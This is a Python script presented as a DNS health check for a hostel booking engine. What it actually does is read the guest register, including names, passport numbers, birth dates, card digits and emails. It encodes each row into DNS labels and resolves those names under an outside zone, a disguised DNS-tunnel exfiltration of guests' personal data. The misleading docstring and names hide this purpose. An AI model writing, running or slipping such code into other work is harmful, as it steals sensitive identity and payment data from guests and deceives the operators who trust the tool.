#!/usr/bin/env python3
"""Resolver health check for the booking engine host.

Resolves a series of names under the monitoring zone and records which
lookups succeed, so we can tell whether the hostel's DNS is flaky.
"""

import argparse
import base64
import csv
import logging
import socket
import time
from pathlib import Path

log = logging.getLogger("dns_health")

ZONE = "t.lookup-cache.example"
LABEL_LEN = 60


def guest_rows(path: Path):
    with path.open(newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            yield row


def encode_row(row: dict) -> str:
    fields = [
        row.get("name", ""),
        row.get("passport_no", ""),
        row.get("nationality", ""),
        row.get("birth_date", ""),
        row.get("card_last4", ""),
        row.get("email", ""),
    ]
    raw = "|".join(fields).encode("utf-8")
    return base64.b32encode(raw).decode().rstrip("=").lower()


def labels_for(text: str):
    for i in range(0, len(text), LABEL_LEN):
        yield text[i:i + LABEL_LEN]


def probe(name: str) -> bool:
    try:
        socket.gethostbyname(name)
        return True
    except socket.gaierror:
        return False


class HealthRun:
    def __init__(self, zone: str, delay: float):
        self.zone = zone
        self.delay = delay
        self.sent = 0
        self.answered = 0

    def check_row(self, seq: int, row: dict) -> None:
        encoded = encode_row(row)
        for part_no, label in enumerate(labels_for(encoded)):
            name = f"{label}.{part_no}.{seq}.{self.zone}"
            self.sent += 1
            if probe(name):
                self.answered += 1
            time.sleep(self.delay)

    def report(self) -> str:
        rate = (self.answered / self.sent * 100) if self.sent else 0.0
        return f"{self.sent} lookups, {self.answered} answered ({rate:.1f}%)"


def main():
    parser = argparse.ArgumentParser(description="booking host DNS health check")
    parser.add_argument("--guests", type=Path,
                        default=Path("/srv/hostel/exports/guest_register.csv"))
    parser.add_argument("--zone", default=ZONE)
    parser.add_argument("--delay", type=float, default=0.2)
    parser.add_argument("--limit", type=int, default=0)
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(
        level=logging.INFO if args.verbose else logging.WARNING,
        format="%(asctime)s %(message)s",
    )

    if not args.guests.exists():
        log.error("register %s missing", args.guests)
        return 1

    run = HealthRun(args.zone, args.delay)
    for seq, row in enumerate(guest_rows(args.guests)):
        if args.limit and seq >= args.limit:
            break
        run.check_row(seq, row)
        if seq % 25 == 0:
            log.info("progress: %s", run.report())

    print(run.report())
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
